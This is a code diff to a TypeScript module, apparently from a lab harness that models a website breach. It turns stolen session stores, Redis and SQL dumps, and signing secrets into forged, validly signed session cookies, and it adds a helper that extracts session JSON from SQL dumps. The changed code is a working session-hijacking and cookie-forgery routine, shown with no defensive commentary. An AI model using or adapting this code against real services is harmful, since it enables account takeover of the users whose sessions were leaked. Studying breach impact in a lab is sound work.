@@ -2,7 +2,7 @@ import { createHmac, randomBytes } from 'node:crypto'
 import type { Loot, Thief } from '../site.ts'
 import { load, loadBeside } from './packages.ts'
 import { keyOf } from './peer.ts'
-import { valuesOfDumps } from './redis.ts'
+import { rowsOfDumps } from './redis.ts'
 
 /** What a thief of one site knows: it is public, or in the source that was stolen with the secrets. */
 export interface Known {
@@ -19,13 +19,24 @@ const BETWEEN = 160
 /** The sessions lie there as JSON. Their ids need the signature, so they sign nobody in without the secret. */
 export function serverThief({ cookieName }: Known, prefix: string): Thief {
   return async (loot) => {
-    const dumped = await valuesOfDumps(loot.files)
-    const ids = new Set([...loot.rows.map(({ key }) => key), ...dumped.keys, ...loot.files.flatMap(idsIn)].map(bare))
+    const rows = [...loot.rows, ...(await rowsOfDumps(loot.files))]
+    const ids = new Set([...rows.map(({ key }) => key), ...loot.files.flatMap(idsIn)].map(bare))
     const cookies = loot.secrets.flatMap((secret) =>
       [...ids].map((id) => `${cookieName}=${encodeURIComponent(`${prefix}${id}.${signature(id, secret)}`)}`),
     )
-    return { texts: [...loot.rows.map(({ value }) => value), ...dumped.values], cookies }
+    return { texts: [...rows.map(({ value }) => value), ...loot.files.flatMap(sessionsIn)], cookies }
   }
+}
+
+/** In bytes: more than a session of the lab has. */
+const SESSION = 4096
+
+/** The sessions of a file. A dump of SQL escapes what JSON has escaped already. */
+function sessionsIn({ bytes }: Loot['files'][number]): Uint8Array[] {
+  const text = Buffer.from(bytes).toString('latin1')
+  return [...text.matchAll(BEGIN)].map(({ index }) =>
+    Buffer.from(text.slice(index, index + SESSION).replaceAll('\\', ''), 'latin1'),
+  )
 }
 
 /** Without what a store puts around an id: "sess:" in Redis, ".json" in a folder. */
